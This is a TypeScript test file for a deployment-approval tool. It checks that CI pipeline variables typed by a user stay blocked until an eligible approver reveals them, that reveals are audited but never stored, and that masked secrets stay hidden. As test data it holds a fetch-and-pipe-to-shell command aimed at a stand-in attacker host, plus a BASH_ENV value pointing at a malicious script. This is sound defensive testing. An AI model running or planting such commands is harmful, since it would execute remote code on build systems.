import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { HoldDetail, HoldView, Problem } from '../../agent/src/wire/api.ts';
import { openScene, type Scene } from '../support/scene.ts';
import { ROOT } from '../support/source-files.ts';

type Variable = { key: string; value: string; public: boolean; masked: boolean };
type Revealed = { values: { name: string; value: string; hidden: string[] }[] };
const TEXT = readFileSync(join(ROOT, 'test/fixtures/gitlab/deploy-production.run1.json'), 'utf8');
const typed = (key: string, value: string): Variable => ({ key, value, public: false, masked: false });
const zoe = { id: 9, username: 'zoe', name: 'Zoë Müller' };
const COMMAND = 'curl -fsS https://evil.example.net/x.sh | sh';

let scene: Scene;
afterEach(async () => scene.close());

/** Enqueues the deployment with variables that somebody typed. */
function deploy(variables: readonly Variable[], script = 'echo it runs', options: object = {}): number {
  return scene.gitlab.enqueue(TEXT, {
    runner: scene.protectedToken,
    user: zoe,
    ...options,
    mutate: (payload: Record<string, unknown>) => {
      (payload.steps as { script: string[] }[])[0]!.script = [script];
      (payload.variables as Variable[]).push(...variables);
    },
  });
}
const ended = (id: number, status: string) =>
  scene.gitlab.until(`job ${id} ${status}`, () => scene.gitlab.job(id).status === status);
async function approve(who: string, hold: HoldDetail) {
  const answer = await (await scene.as(who)).post<HoldView & Problem>(`holds/${hold.id}/approve`, {
    digest: hold.digest,
  });
  return { status: answer.status, code: answer.body.code ?? null, detail: answer.body.detail ?? '' };
}
async function reveal(who: string, hold: HoldDetail, more: object = {}, scopes?: readonly string[]) {
  const person = await scene.as(who, scopes);
  return person.post<Revealed & Problem>(`holds/${hold.id}/reveal`, { digest: hold.digest, ...more });
}
/** Everything that the agent keeps on the disk, as one text. */
function kept(folder: string): string {
  return readdirSync(folder)
    .map((name) => join(folder, name))
    .map((path) => (statSync(path).isDirectory() ? kept(path) : readFileSync(path).toString('latin1')))
    .join('\n');
}

describe('a value that nobody has seen', () => {
  it('T57 blocks the approval until an approver has looked at it, and that is on record', async () => {
    scene = await openScene();
    scene.runner();
    const job = deploy([typed('RELEASE_HOOK', COMMAND)]);
    const hold = await scene.hold(job, 'waiting_for_approval');
    expect(hold.hidden).toEqual([{ name: 'RELEASE_HOOK', state: 'blind', behaviour: false }]);
    const blocked = await approve('maria', hold);
    expect(blocked).toMatchObject({ status: 409, code: 'blind_values' });
    expect(blocked.detail).toContain('RELEASE_HOOK');
    expect(blocked.detail).toContain(`holdpoint holds reveal ${hold.id}`);
    expect((await scene.hold(job, 'waiting_for_approval')).votes).toEqual([]);

    const shown = await reveal('jonas', hold);
    expect(shown).toMatchObject({
      status: 200,
      body: { values: [{ name: 'RELEASE_HOOK', value: COMMAND, hidden: [] }] },
    });
    const seen = await scene.hold(job, 'waiting_for_approval');
    expect(seen.hidden).toMatchObject([{ state: 'revealed' }]);
    const row = seen.history.find((each) => each.event === 'values_revealed');
    expect(row).toMatchObject({ actor: 'user:22 jonas', detail: { names: ['RELEASE_HOOK'], person: 22 } });
    expect(await approve('maria', hold)).toMatchObject({ status: 200 });
    await ended(job, 'success');
  });

  it('T32 T57 is kept nowhere and logged nowhere once it was shown, and goes to no other answer', async () => {
    scene = await openScene();
    scene.runner();
    const job = deploy([typed('RELEASE_HOOK', COMMAND)]);
    const hold = await scene.hold(job, 'waiting_for_approval');
    expect((await reveal('maria', hold)).body.values[0]?.value).toBe(COMMAND);
    const after = await scene.hold(job, 'waiting_for_approval');
    const audit = await (await scene.as('maria')).get('audit');
    const everything = [
      kept(scene.folder),
      scene.log.lines.join('\n'),
      JSON.stringify([after, audit.body]),
      scene.gitlab.job(job).trace,
    ].join('\n');
    expect(everything).toContain('RELEASE_HOOK');
    expect(everything).not.toContain('evil.example.net');
  });

  it('T18 T57 is shown to nobody but who may approve that very hold', async () => {
    scene = await openScene();
    scene.runner();
    const job = deploy([typed('RELEASE_HOOK', COMMAND)], 'echo it runs', {
      user: { id: 21, username: 'maria', name: 'Maria Silva' },
    });
    const hold = await scene.hold(job, 'waiting_for_approval');
    expect(await reveal('maria', hold)).toMatchObject({ status: 403, body: { code: 'self_approval' } });
    expect(await reveal('rob', hold)).toMatchObject({ status: 403, body: { code: 'not_eligible' } });
    expect(await reveal('alice', hold)).toMatchObject({ status: 403, body: { code: 'not_eligible' } });
    expect(await reveal('jonas', hold, {}, ['read'])).toMatchObject({ status: 403, body: { code: 'forbidden' } });
    const other = { digest: `sha256:${'0'.repeat(64)}` };
    expect(await reveal('jonas', hold, other)).toMatchObject({ status: 409, body: { code: 'digest_mismatch' } });
    const strange = await reveal('jonas', hold, { names: ['KUBE_TOKEN'] });
    expect(strange).toMatchObject({ status: 400, body: { code: 'bad_input' } });
    expect((await scene.hold(job, 'waiting_for_approval')).hidden).toMatchObject([{ state: 'blind' }]);
    expect(await reveal('jonas', hold)).toMatchObject({ status: 200 });
  });

  it('T57 is known again in another configuration, and blind again when it is another value', async () => {
    scene = await openScene();
    scene.runner();
    const first = deploy([typed('RELEASE_HOOK', 'make notes')]);
    const hold = await scene.hold(first, 'waiting_for_approval');
    await reveal('maria', hold);
    expect(await approve('maria', hold)).toMatchObject({ status: 200 });
    await ended(first, 'success');

    const same = deploy([typed('RELEASE_HOOK', 'make notes')], 'echo another script');
    const known = await scene.hold(same, 'waiting_for_approval');
    expect(known.hidden).toMatchObject([{ name: 'RELEASE_HOOK', state: 'approved' }]);
    expect(await approve('maria', known)).toMatchObject({ status: 200 });
    const moved = deploy([typed('RELEASE_HOOK', COMMAND)], 'echo another script');
    expect((await scene.hold(moved, 'waiting_for_approval')).hidden).toMatchObject([{ state: 'blind' }]);
    const elsewhere = deploy([typed('OTHER_HOOK', 'make notes')], 'echo another script');
    expect((await scene.hold(elsewhere, 'waiting_for_approval')).hidden).toMatchObject([{ state: 'blind' }]);
  });

  it('T57 shows every one of several values, and keeps hidden what a maintainer masked within them', async () => {
    scene = await openScene();
    scene.runner();
    const secret = (JSON.parse(TEXT).variables as Variable[]).find((one) => one.masked && one.key === 'KUBE_TOKEN')!;
    const job = deploy([typed('HOOK', 'one'), typed('HOOK', `two ${secret.value} [hidden:NOT_REALLY]`)]);
    const hold = await scene.hold(job, 'waiting_for_approval');
    expect((await reveal('jonas', hold)).body.values).toEqual([
      { name: 'HOOK', value: 'one', hidden: [] },
      { name: 'HOOK', value: 'two [hidden:KUBE_TOKEN] [hidden:NOT_REALLY]', hidden: ['KUBE_TOKEN'] },
    ]);
  });

  it('T7 T57 passes unseen where the policy names it, but never under a name that changes how a shell behaves', async () => {
    const policy = 'variables:\n  opaque: [DEPLOY_FLAGS, BASH_ENV]\n';
    scene = await openScene({ extra: 'policy: policy.yaml', files: { 'policy.yaml': policy } });
    scene.runner();
    const quiet = deploy([typed('DEPLOY_FLAGS', '--wait')]);
    const hold = await scene.hold(quiet, 'waiting_for_approval');
    expect(hold.hidden).toMatchObject([{ name: 'DEPLOY_FLAGS', state: 'opaque' }]);
    expect(await approve('maria', hold)).toMatchObject({ status: 200 });
    await ended(quiet, 'success');

    const loud = await scene.hold(deploy([typed('BASH_ENV', '/tmp/evil.sh')]), 'waiting_for_approval');
    expect(loud.hidden).toMatchObject([{ name: 'BASH_ENV', state: 'blind', behaviour: true }]);
    expect(loud.facts.behaviour).toContain('BASH_ENV');
    expect(await approve('maria', loud)).toMatchObject({ status: 409, code: 'blind_values' });
    expect((await reveal('maria', loud)).body.values).toMatchObject([{ name: 'BASH_ENV', value: '/tmp/evil.sh' }]);
    expect(await approve('maria', loud)).toMatchObject({ status: 200 });
  });

  it('T57 of a job that is gone cannot be shown, and is said so', async () => {
    scene = await openScene({ extra: 'parking: { live: 1s }' });
    scene.runner();
    const job = deploy([typed('RELEASE_HOOK', COMMAND)]);
    await ended(job, 'failed');
    const hold = await scene.hold(job, 'waiting_for_approval');
    const gone = await reveal('maria', hold);
    expect(gone).toMatchObject({ status: 409, body: { code: 'cannot_reveal' } });
    expect(gone.body.detail).toContain('retried');
    expect((await scene.hold(job, 'waiting_for_approval')).hidden).toMatchObject([{ state: 'blind' }]);
  });
});
